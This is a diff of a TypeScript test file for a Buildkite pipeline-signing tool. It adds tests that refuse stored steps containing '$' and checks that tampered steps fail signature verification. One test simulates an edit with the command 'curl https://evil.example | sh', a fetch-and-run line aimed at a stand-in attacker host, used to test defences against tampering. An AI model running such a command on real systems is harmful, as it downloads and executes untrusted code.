@@ -25,7 +25,7 @@ const steps: Step[] = [
         key: "release",
         label: "Release",
         queue: "default",
-        commands: ['echo "$BUILDKITE_TAG"', "make release"],
+        commands: ["make release"],
         env: { MODE: "release" },
         container: {
             image: "123.dkr.ecr.us-east-1.amazonaws.com/ci-platform/python:3.12",
@@ -34,12 +34,13 @@ const steps: Step[] = [
         },
     },
 ];
-const doc = { env: { TEAM: "kolibri", PRICE: "$5" }, steps };
+const doc = { env: { TEAM: "kolibri", PRICE: "5 dollars" }, steps };
 const keys = parseJwks(AGENT_TEST_PUBLIC_JWKS, false);
 const signing = {
     privateJwks: AGENT_TEST_PRIVATE_JWKS,
     verificationKeys: keys,
     configPath: "ci-platform:secrets.signing.default",
+    pipeline: "kolibri",
 };
 
 /** Buildkite's interpolation of the stored document at build creation: `$$` is a literal `$` (no variable here). */
@@ -72,10 +73,29 @@ describe("stored steps signed by the program", () => {
         assert.ok(!/wait[^\n]*\n[^\n]*signature/.test(yaml));
     });
 
-    it("signs what the job runs, after interpolation: a stored `$$` is the job's `$`", () => {
-        const release = storedCommands(yaml).commands[1];
-        assert.equal(release.commands[0], 'echo "$BUILDKITE_TAG"');
-        assert.equal(storedCommands(yaml).env.PRICE, "$5");
+    it("refuses, naming the pipeline, a command step whose command, env or plugins hold a `$`, and a `$` in the document's env", () => {
+        type Command = Extract<Step, { kind: "command" }>;
+        const dollar = (changed: Partial<Command>): typeof doc => ({
+            ...doc,
+            steps: [steps[0], steps[1], { ...(steps[2] as Command), ...changed }],
+        });
+        const refused = (e: Error) => e.message.startsWith('pipeline "kolibri": stored step "release" holds a "$"');
+        for (const offline of [false, true]) {
+            const key = offline ? { ...signing, privateJwks: "[secret:0123456789abcdef]" } : signing;
+            assert.throws(
+                () => signedStoredPipeline(dollar({ commands: ['echo "$BUILDKITE_TAG"'] }), REPO, key),
+                refused,
+            );
+            assert.throws(() => signedStoredPipeline(dollar({ env: { PRICE: "$$5" } }), REPO, key), refused);
+            const image = "${CI_PLATFORM_ECR_REGISTRY}/ci-platform/python:3.12";
+            const container = { image, ecrLogin: true, expandVars: true };
+            assert.throws(() => signedStoredPipeline(dollar({ container }), REPO, key), refused);
+            assert.throws(
+                () => signedStoredPipeline({ ...doc, env: { PRICE: "$5" } }, REPO, key),
+                /^Error: pipeline "kolibri": the stored document's env holds a "\$"/,
+            );
+        }
+        assert.doesNotThrow(() => signedStoredPipeline(doc, REPO, signing));
     });
 
     it("is deterministic: the same config gives the same text (previews stay clean)", () => {
@@ -90,7 +110,7 @@ describe("stored steps signed by the program", () => {
     it("a changed command in the stored steps (an edit in Buildkite) fails verification", () => {
         const stored = storedCommands(yaml).commands[0];
         const edited = { ...stored, commands: ["curl https://evil.example | sh"] };
-        const job = { repositoryUrl: REPO, outerEnv: { TEAM: "kolibri", PRICE: "$5" } };
+        const job = { repositoryUrl: REPO, outerEnv: { TEAM: "kolibri", PRICE: "5 dollars" } };
         assert.equal(verifyStep(edited, stored.signature, job, keys), "the signature does not verify");
     });
 
